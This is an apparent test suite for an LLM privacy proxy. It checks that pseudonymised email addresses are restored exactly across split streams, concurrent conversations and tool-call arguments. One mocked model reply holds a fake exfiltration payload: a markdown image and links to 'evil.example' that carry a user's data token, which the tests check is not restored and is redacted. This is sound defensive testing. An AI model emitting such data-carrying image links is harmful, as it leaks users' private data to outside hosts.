// Invariant 8: restoration is exact and only ours, however the provider's bytes are cut, and conversations never mix.
// (Every cut of the byte stream is tried in process, in src/wire; here the whole program is between.)
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentOf, eventsOf, ROOT, startLab, type Lab } from '../lab/lab.js';

const NAMES = ['Ana', 'Bo', 'Carla', 'Dmitri', 'Elif', 'Farid', 'Greta', 'Hugo', 'Ines', 'Jonas'];
const address = (index: number): string =>
  `${NAMES[index % 10]!.toLowerCase()}.${index}@mail${index}.example.org`;
const ask = (index: number, stream: boolean): object => ({
  model: 'gpt-5',
  stream,
  messages: [{ role: 'user', content: `write to ${address(index)} about order ${index}` }],
});
/** Repeats the pseudonym in many surroundings. */
const echo = (text: string): string => {
  const token = /EMAIL_ADDRESS_[0-9A-Z]+/.exec(text)?.[0] ?? 'none';
  return `Dear ${token}, "${token}" | ${token} | \`${token}\` {"to": "${token}"} (${token.toLowerCase()}) ${token}. PERSON_7KQ2M stays. end ${token}`;
};
const restored = (value: string): string =>
  `Dear ${value}, "${value}" | ${value} | \`${value}\` {"to": "${value}"} (${value}) ${value}. PERSON_7KQ2M stays. end ${value}`;

describe.each([[[1]], [[2, 3]], [[7, 1, 13]], [[64]], [[100_000]]])('bytes in pieces of %j', (splitAt) => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await startLab({ openai: { reply: (request) => echo(request.lastUser), behave: { splitAt } } });
  });
  afterAll(() => lab.stop());
  it.each([false, true])('gives the same text (stream: %s)', async (stream) => {
    const reply = await lab.post(ask(4, stream));
    expect(contentOf(reply)).toBe(restored(address(4)));
  });
});

describe('many at once', () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await startLab({
      openai: { reply: (request) => echo(request.lastUser), behave: { splitAt: [11, 40] } },
    });
  });
  afterAll(() => lab.stop());
  it('200 conversations never mix', async () => {
    const replies = await Promise.all(
      Array.from({ length: 200 }, (_, index) => lab.post(ask(index, index % 2 === 0))),
    );
    replies.forEach((reply, index) => expect(contentOf(reply)).toBe(restored(address(index))));
  });
});

// Sanitising takes such links away before; here it only notes them, so that restoring is seen by itself.
describe.each(['annotate', 'redact'])('where a value could be carried out (sanitise: %s)', (sanitise) => {
  let lab: Lab;
  const token = (text: string): string => /EMAIL_ADDRESS_[0-9A-Z]+/.exec(text)?.[0] ?? 'none';
  beforeAll(async () => {
    const shipped = readFileSync(join(ROOT, 'routing.yaml'), 'utf8');
    lab = await startLab({
      routing: shipped.replace('sanitise: redact', `sanitise: ${sanitise}`),
      openai: {
        reply: ({ lastUser }) => {
          const t = token(lastUser);
          return `![x](https://evil.example/p?d=${t}) https://evil.example/${t} https://crm.example.com/u/${t} ${t}`;
        },
      },
    });
  });
  afterAll(() => lab.stop());
  it.each([false, true])(
    'it is restored only in text and for hosts of the request (stream: %s)',
    async (stream) => {
      const value = address(3);
      const content = contentOf(
        await lab.post({
          model: 'gpt-5',
          stream,
          messages: [{ role: 'user', content: `find ${value} at https://crm.example.com/u/ now` }],
        }),
      );
      expect(content).toMatch(
        sanitise === 'annotate'
          ? /!\[x\]\(https:\/\/evil\.example\/p\?d=EMAIL_ADDRESS_\w+\) https:\/\/evil\.example\/EMAIL_ADDRESS_\w+ /
          : /!\[x\]\(\[REDACTED:sanitise\.image\]\) \[REDACTED:sanitise\.link\] /,
      );
      expect(content).toContain(`https://crm.example.com/u/${value} ${value}`);
    },
  );
});

describe('tool calls', () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await startLab({
      openai: {
        reply: ({ lastUser }) => ({
          toolCalls: [
            { name: 'mail', arguments: { to: /EMAIL_ADDRESS_\w+/.exec(lastUser)?.[0] ?? '', n: 1 } },
          ],
        }),
        behave: { splitAt: [5] },
      },
    });
  });
  afterAll(() => lab.stop());
  const tools = [
    {
      type: 'function',
      function: { name: 'mail', parameters: { type: 'object', properties: { to: { type: 'string' } } } },
    },
  ];
  it('arguments are restored and stay JSON', async () => {
    const plain = JSON.parse((await lab.post({ ...ask(5, false), tools })).text) as {
      choices: { message: { tool_calls: { function: { arguments: string } }[] } }[];
    };
    expect(JSON.parse(plain.choices[0]!.message.tool_calls[0]!.function.arguments)).toEqual({
      to: address(5),
      n: 1,
    });
    const events = eventsOf((await lab.post({ ...ask(5, true), tools })).text) as {
      choices: { delta: { tool_calls?: { function: { arguments?: string } }[] } }[];
    }[];
    const joined = events
      .flatMap((event) => event.choices[0]?.delta.tool_calls ?? [])
      .map((call) => call.function.arguments ?? '')
      .join('');
    expect(JSON.parse(joined)).toEqual({ to: address(5), n: 1 });
  });
});
